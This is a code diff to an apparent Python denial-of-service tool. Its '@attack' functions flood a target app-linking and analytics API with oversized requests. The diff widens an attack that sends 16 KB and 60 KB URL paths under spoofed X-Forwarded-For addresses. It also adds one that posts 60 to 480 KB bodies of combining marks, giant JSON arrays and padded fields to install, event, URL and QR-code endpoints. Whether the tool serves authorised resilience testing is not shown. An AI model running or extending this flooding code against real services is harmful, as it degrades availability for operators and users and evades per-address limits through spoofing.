@@ -80,11 +80,11 @@ def queries_of_many_fields(target, until, number):
 
 @attack
 def long_paths(target, until, number):
-    """paths of 60 KB below routes of the API, as calls of other addresses"""
+    """paths of 16 and 60 KB below routes of the API, as calls of other addresses"""
     paths = ["/api/v1/analytics/reports/x/", "/api/v1/analytics/ltv/", "/v1/branch_aggregate/async/status/x/", "/v1/gdpr/", "/"]
     requests = [
-        request("GET", path + "a" * 60_000, headers={"X-Forwarded-For": address})
-        for address, path in zip(from_addresses(number, 50), paths * 10)]
+        request("GET", path + "a" * length, headers={"X-Forwarded-For": address})
+        for address, path, length in zip(from_addresses(number, 50), paths * 10, (16_000, 60_000, 16_000) * 17)]
     return flood(target, until, requests)
 
 
@@ -166,6 +166,27 @@ def combining_marks(target, until, number):
         *[request("GET", target.visit, headers={name: in_header}) for name in ("Origin", "Sec-Fetch-Dest", "Accept-Language")],
         request("OPTIONS", "/v1/event", headers={"Origin": in_header}),
     ])
+
+
+@attack
+def long_texts(target, until, number):
+    """texts of 60 to 480 KB as phone numbers, referrers, names of events, kinds of clients and JSON within JSON"""
+    marks = "\u0344\u00e9" * 15_000
+    sender = of_network(number, 1)[0]
+    start = {"branch_key": target.key, "os": "Android", "hardware_id": f"{number}", "is_hardware_id_real": True}
+    values = "[" + "0," * 240_000 + "0]"
+    bodies = [
+        ("/c" + target.visit, {"branch_key": target.key, "phone": marks}),
+        ("/c" + target.visit, {"branch_key": target.key, "phone": "1 " * 30_000}),
+        ("/v1/install", start | {"install_referrer_extras": "link_click_id=" * 4000}),
+        ("/v1/install", start | {"install_referrer_extras": "&" * 60_000}), ("/v1/event", {"branch_key": target.key, "event": marks * 8}),
+        ("/v1/event", {"branch_key": target.key, "event": "View", "params": values}),
+        ("/v1/url", {"branch_key": target.key, "data": values}), ("/v1/url", {"branch_key": target.key, "source": marks * 8, "data": {}}),
+        ("/v1/event", {"branch_key": target.key, "event": "buy", "metadata": values, "user_data": values}),
+        ("/v1/qr-code", {"branch_key": target.key, "data": {}, "qr_code_settings": values}),
+        ("/v2/event/standard", {"branch_key": target.key, "name": "PURCHASE", "event_data": {"currency": marks, "revenue": " " * 60_000}}),
+    ]
+    return flood(target, until, [request("POST", path, json.dumps(body, ensure_ascii=False).encode(), sender) for path, body in bodies])
 
 
 @attack
